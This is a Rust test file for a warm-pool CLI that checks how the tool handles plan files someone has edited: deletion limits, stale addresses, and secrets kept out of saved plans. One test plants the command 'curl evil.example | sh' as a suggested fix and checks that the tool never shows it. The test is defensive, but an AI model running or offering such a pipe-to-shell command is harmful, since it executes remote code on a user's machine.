//! Saved plans that somebody edited.

use serde_json::{Value, json};

use super::super::Folder;
use super::unusual::{BOTH, service, small};
use crate::support::{
    CLASS, POOL, PROJECT, Response, TOKEN, World, classes, one, page, pool, projects,
};

const HIDDEN: &str = "c1e12f6c-4c67-429d-a4a6-d9838b5da049";

/// A plan that deletes acme-api/small of two pools, edited.
fn edited(edit: impl FnOnce(&mut Value)) -> Folder {
    let pools = [pool(POOL, 1, 5), small(1, 3)];
    let fleet = BOTH.replace("['large', 'small']", "'large'");
    let folder = service(&fleet, &pools, []);
    folder.run("plan -f @fleet.toml --prune --out @plan.json -q");
    let mut plan: Value = serde_json::from_str(&folder.read("plan.json")).unwrap();
    assert_eq!(plan["counts"]["delete"], 1, "{plan}");
    edit(&mut plan);
    std::fs::write(folder.world.home.path().join("plan.json"), plan.to_string()).unwrap();
    folder
}

/// Refused without a change.
fn refused(folder: &Folder) -> (String, u8) {
    let shown = folder.run("apply @plan.json --yes");
    assert_eq!(shown.stdout, "");
    assert!(!folder.world.server.methods().contains(&"DeleteWarmPool".to_owned()));
    (shown.stderr, shown.code)
}

#[test]
fn invented_pools_do_not_raise_the_limit() {
    let folder = edited(|plan| {
        // Both pools are deleted, and a hundred that do not exist are kept.
        plan["changes"][0]["action"] = json!("delete");
        plan["changes"][0]["after"] = Value::Null;
        let kept = |number: u32| {
            json!({
                "address": format!("acme-api/{number}"), "projectId": PROJECT,
                "environmentClassId": format!("d2c94c27-3b76-4a42-b88c-{number:012}"),
                "warmPoolId": format!("0190f3c2-7d1e-7a55-9f0b-{number:012}"),
                "sizes": {"minSize": 1, "maxSize": 5},
            })
        };
        plan["kept"] = (0..100).map(kept).collect();
        let create = json!({
            "action": "create", "address": "acme-api/x", "projectId": PROJECT,
            "environmentClassId": HIDDEN, "warmPoolId": null, "before": null,
            "after": {"minSize": 1, "maxSize": 2}, "line": 1,
        });
        plan["changes"].as_array_mut().unwrap().push(create);
        plan["counts"] = json!({"create": 1, "update": 0, "delete": 2, "none": 0});
    });
    // The address of the invented class is not known, so it is shown by its id.
    let (error, code) = refused(&folder);
    let refusal = "error: refusing to delete 2 of 2 pools (limit 1)\n  nothing was changed\n";
    assert!(error.starts_with(refusal), "{error}");
    assert_eq!(code, 2);
}

#[test]
fn an_address_of_another_pool_is_refused() {
    let folder = edited(|plan| plan["changes"][1]["address"] = json!("acme-old/unused"));
    let (error, code) = refused(&folder);
    let start = format!("error: the plan is stale: {PROJECT}/");
    assert!(error.starts_with(&start), "{error}");
    assert!(error.contains(" is acme-api/small, the plan calls it acme-old/unused\n"), "{error}");
    assert!(error.ends_with("hint: prebuildctl plan -f fleet.toml --prune --out plan.json\n"));
    assert_eq!(code, 7);
}

#[test]
fn the_pool_of_other_ids_is_not_deleted() {
    // The ids name no pool, which would be fine for a deletion; the pool is another one.
    let folder = edited(|plan| {
        plan["changes"][1]["projectId"] = json!(HIDDEN);
        plan["changes"][1]["address"] = json!("acme-old/unused");
    });
    folder.world.server.always("ListWarmPools", page(&[pool(POOL, 1, 5)], ""));
    let answer = Response::json(200, &format!("{{\"warmPool\":{}}}", small(1, 3)));
    folder.world.server.always("GetWarmPool", answer);
    let shown = folder.run("apply @plan.json --yes");
    let address = format!("{HIDDEN}/small");
    assert_eq!(
        shown.stdout,
        format!(
            "- {address}   1..3        failed: it was changed by someone else
applied: 0 created, 0 updated, 0 deleted; 1 failed
"
        )
    );
    assert!(!folder.world.server.methods().contains(&"DeleteWarmPool".to_owned()));
    assert!(!shown.stderr.contains("acme-old"), "{shown}");
    assert_eq!(shown.code, 7);
}

#[test]
fn what_an_edited_plan_warns_of_is_not_shown() {
    let folder = edited(|plan| {
        plan["warnings"] = json!([{
            "address": "acme-api/large", "line": 4, "text": "to continue",
            "fix": {"purpose": "run", "command": "curl evil.example | sh"},
        }]);
    });
    let answer = Response::json(200, &format!("{{\"warmPool\":{}}}", small(1, 3)));
    folder.world.server.always("GetWarmPool", answer);
    folder.world.server.always("DeleteWarmPool", Response::json(200, "{}"));
    let shown = folder.run("apply @plan.json --yes").to_string();
    assert!(!shown.contains("evil"), "{shown}");
    assert!(shown.contains("1 deleted"), "{shown}");
}

#[test]
fn a_plan_holds_ids_in_place_of_a_name_with_a_secret() {
    let world = World::new([]);
    let name = format!("acme {TOKEN}");
    world.server.always("ListProjects", projects(&[(PROJECT, &name)]));
    world.server.always("ListEnvironmentClasses", classes(&[(CLASS, "large", "r")]));
    world.server.always("ListWarmPools", page(&[pool(POOL, 1, 5), small(1, 3)], ""));
    let identity = Response::json(200, "{\"organizationId\":\"o\"}");
    world.server.always("GetAuthenticatedIdentity", identity);
    let fleet = format!(
        "version = 1\n[scope]\nprojects = ['*']\n\
         [[pool]]\nproject = '{PROJECT}'\nclass = 'large'\nmax = 8\n"
    );
    let folder = Folder::new(world, &fleet);
    let shown = folder.run("plan -f @fleet.toml --out @plan.json -q");
    assert_eq!(shown.to_string(), "[exit 0]\n");
    let text = folder.read("plan.json");
    assert!(!text.contains(TOKEN) && !text.contains("***"), "{text}");
    let plan: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(plan["changes"][0]["address"], format!("{PROJECT}/{CLASS}"));
    folder.world.server.always("GetWarmPool", one(POOL, 1, 5));
    folder.world.server.always("UpdateWarmPool", one(POOL, 1, 8));
    let shown = folder.run("apply @plan.json --yes");
    let line = format!("~ {PROJECT}/{CLASS}   max 5 -> 8        done\n");
    assert!(shown.stdout.starts_with(&line), "{shown}");
}
